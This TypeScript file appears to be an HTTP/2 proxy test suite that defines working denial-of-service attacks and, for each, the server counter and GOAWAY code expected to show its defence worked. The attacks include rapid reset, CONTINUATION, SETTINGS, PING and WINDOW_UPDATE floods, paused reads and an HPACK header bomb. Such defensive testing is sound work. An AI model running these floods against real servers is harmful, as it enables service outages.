// What somebody does to an HTTP/2 server who wants it to work, or to remember, for nothing. Each attack goes on
// until its connection ends, or it has nothing left to send.
import { once } from 'node:events';
import {
  connectH2,
  data,
  END_HEADERS,
  END_STREAM,
  encode,
  type Field,
  frame,
  head,
  headers,
  type Manners,
  type Peer,
  reset,
  SETTING,
  settings,
  T,
  u32,
  windowUpdate,
} from './h2_frames.ts';
import type { Fields } from './support.ts';

export interface Attack {
  readonly name: string;
  readonly manners?: Manners;
  /** Sends; ends by itself at the latest soon after the connection has ended. */
  readonly run: (peer: Peer) => Promise<void>;
  /** The statistic of the process or of the connection manager that tells of it. */
  readonly counter: string;
  /** The code of the last GOAWAY; undefined: whoever reads nothing is told nothing. */
  readonly goaway?: string;
}

/** So many pieces in one write: as large as one read of the other end. */
const BYTES = 64 * 1024;

/** Writes what `piece` makes until the connection has ended, no faster than it is read. */
export async function flood(
  peer: Peer,
  piece: () => Buffer,
  pieces = Number.POSITIVE_INFINITY,
): Promise<void> {
  for (let sent = 0; sent < pieces && !peer.ended; ) {
    const parts: Buffer[] = [];
    for (let size = 0; size < BYTES && sent < pieces; sent++) {
      const next = piece();
      parts.push(next);
      size += next.length;
    }
    if (peer.socket.destroyed) return;
    const taken = peer.socket.write(Buffer.concat(parts));
    const signal = AbortSignal.timeout(50);
    if (!taken) await once(peer.socket, 'drain', { signal }).catch(() => undefined);
    else await new Promise(setImmediate);
  }
}

/** Stream ids of a client. */
function ids(): () => number {
  let next = -1;
  return () => {
    next += 2;
    return next;
  };
}

const get = (path: string, more: readonly Field[] = []): Field[] => [...head({ ':path': path }), ...more];
const post = (path: string): Field[] => head({ ':path': path, ':method': 'POST' });
/** The path of a host that never answers. */
const SILENT = get('/silent');

/** A request on a new stream and what makes its server give it up. */
const opened = (behind: (stream: number) => Buffer, block = SILENT, end = true) => {
  const next = ids();
  const fields = encode(block);
  return (): Buffer => {
    const stream = next();
    return Buffer.concat([
      frame(T.HEADERS, END_HEADERS | (end ? END_STREAM : 0), stream, fields),
      behind(stream),
    ]);
  };
};

const on = (make: () => () => Buffer) => (peer: Peer) => flood(peer, make());
/** One request first, to whose stream the frames belong. */
const within =
  (piece: Buffer, end = false) =>
  (peer: Peer) => {
    peer.send(headers(1, end ? SILENT : post('/silent'), end));
    return flood(peer, () => piece);
  };

/** A field that enters the table, then references to it: a byte each. */
const bomb = (field: Field, references: number): Buffer =>
  Buffer.concat([Buffer.from([0x40]), encode([field]).subarray(1), Buffer.alloc(references, 0x80 | 62)]);

const PREMATURE = 'downstream_rq_too_many_premature_resets';
const CALM = 'ENHANCE_YOUR_CALM';

export const ATTACKS: readonly Attack[] = [
  {
    name: 'rapid reset',
    run: on(() => opened((s) => reset(s, 8))),
    counter: PREMATURE,
    goaway: CALM,
  },
  {
    name: 'rapid reset, by frames for which the server has to reset',
    run: on(() => opened((s) => windowUpdate(s, 0))),
    counter: PREMATURE,
    goaway: CALM,
  },
  {
    name: 'rapid reset, by bodies that are longer than announced',
    run: on(() =>
      opened((s) => data(s, 'longer', false), [...post('/silent'), ['content-length', '1']], false),
    ),
    counter: PREMATURE,
    goaway: CALM,
  },
  {
    name: 'CONTINUATION without an end',
    run: (peer) => {
      peer.send(frame(T.HEADERS, END_STREAM, 1, encode(SILENT)));
      const filling = encode([['x-a', 'v'.repeat(1000)]]);
      return flood(peer, () => frame(T.CONTINUATION, 0, 1, filling));
    },
    counter: 'downstream_cx_protocol_error',
    goaway: CALM,
  },
  {
    name: 'empty CONTINUATION',
    run: (peer) => {
      peer.send(frame(T.HEADERS, END_STREAM, 1, encode(SILENT)));
      return flood(peer, () => frame(T.CONTINUATION, 0, 1));
    },
    counter: 'http2.inbound_empty_frames_flood',
    goaway: CALM,
  },
  {
    name: 'SETTINGS',
    run: on(() => () => settings()),
    counter: 'http2.outbound_control_flood',
    goaway: CALM,
  },
  {
    name: 'SETTINGS that change the windows of a thousand streams thousands of times',
    run: async (peer) => {
      const next = opened(() => Buffer.alloc(0));
      await flood(peer, next, 1000);
      const entry = (value: number): Buffer => {
        const out = Buffer.alloc(6);
        out.writeUInt16BE(SETTING.INITIAL_WINDOW_SIZE, 0);
        out.writeUInt32BE(value, 2);
        return out;
      };
      const both = Buffer.concat([entry(1), entry(100_000)]);
      const full = frame(T.SETTINGS, 0, 0, Buffer.concat(Array.from({ length: 1300 }, () => both)));
      await flood(peer, () => full, 400);
      await flood(peer, () => settings());
    },
    counter: 'http2.outbound_control_flood',
    goaway: CALM,
  },
  {
    name: 'PING',
    run: on(() => () => frame(T.PING, 0, 0, '12345678')),
    counter: 'http2.outbound_control_flood',
    goaway: CALM,
  },
  {
    name: 'PING, and nothing is read',
    run: (peer) => {
      peer.socket.pause();
      return flood(peer, () => frame(T.PING, 0, 0, '12345678'));
    },
    counter: 'http2.outbound_control_flood',
  },
  {
    name: 'requests with answers that have no body, and nothing is read',
    run: (peer) => {
      peer.socket.pause();
      return flood(
        peer,
        opened(() => Buffer.alloc(0), get('/empty')),
      );
    },
    counter: 'http2.outbound_flood',
  },
  {
    name: 'requests, and nothing is read',
    run: (peer) => {
      peer.socket.pause();
      return flood(
        peer,
        opened(() => Buffer.alloc(0), get('/direct')),
      );
    },
    counter: 'http2.outbound_control_flood',
  },
  {
    name: 'empty DATA',
    run: within(frame(T.DATA, 0, 1)),
    counter: 'http2.inbound_empty_frames_flood',
    goaway: CALM,
  },
  {
    name: 'DATA of nothing but padding',
    run: within(frame(T.DATA, 8, 1, Buffer.alloc(20, 0).fill(19, 0, 1))),
    counter: 'http2.inbound_empty_frames_flood',
    goaway: CALM,
  },
  {
    name: 'WINDOW_UPDATE',
    run: within(windowUpdate(1, 1), true),
    counter: 'http2.inbound_window_update_frames_flood',
    goaway: CALM,
  },
  {
    name: 'WINDOW_UPDATE of the connection',
    run: on(() => () => windowUpdate(0, 1)),
    counter: 'http2.inbound_window_update_frames_flood',
    goaway: CALM,
  },
  {
    name: 'PRIORITY',
    run: on(() => () => frame(T.PRIORITY, 0, 1, Buffer.concat([u32(0), Buffer.from([1])]))),
    counter: 'http2.inbound_priority_frames_flood',
    goaway: CALM,
  },
  {
    name: 'RST_STREAM of a stream that is closed',
    run: (peer) => {
      peer.send(headers(1, SILENT), reset(1, 8));
      return flood(peer, () => reset(1, 8));
    },
    counter: 'http2.outbound_control_flood',
    goaway: CALM,
  },
  {
    name: 'streams beyond the limit',
    run: on(() => opened(() => Buffer.alloc(0))),
    counter: 'http2.outbound_control_flood',
    goaway: CALM,
  },
  {
    name: 'a head of 60 MB that is 18 KB on the wire',
    run: on(() => {
      const next = ids();
      const block = Buffer.concat([encode(SILENT), bomb(['x-a', 'v'.repeat(4000)], 12_000)]);
      return () => frame(T.HEADERS, END_HEADERS | END_STREAM, next(), block);
    }),
    counter: PREMATURE,
    goaway: CALM,
  },
  {
    name: 'a head of thousands of cookies',
    run: on(() => {
      const next = ids();
      const block = Buffer.concat([encode(SILENT), bomb(['cookie', 'c'], 5000)]);
      return () => frame(T.HEADERS, END_HEADERS | END_STREAM, next(), block);
    }),
    counter: PREMATURE,
    goaway: CALM,
  },
];

/** A route of answers without a body, whose heads are long enough to fill a socket. */
export const EMPTY: Fields = {
  match: { path: '/empty' },
  direct_response: { status: 204 },
  response_headers_to_add: [{ header: { key: 'x-fill', value: '%REQ(X-REQUEST-ID)%'.repeat(6) } }],
};

export const attack = (port: number, { manners }: Attack): Peer => connectH2(port, manners);
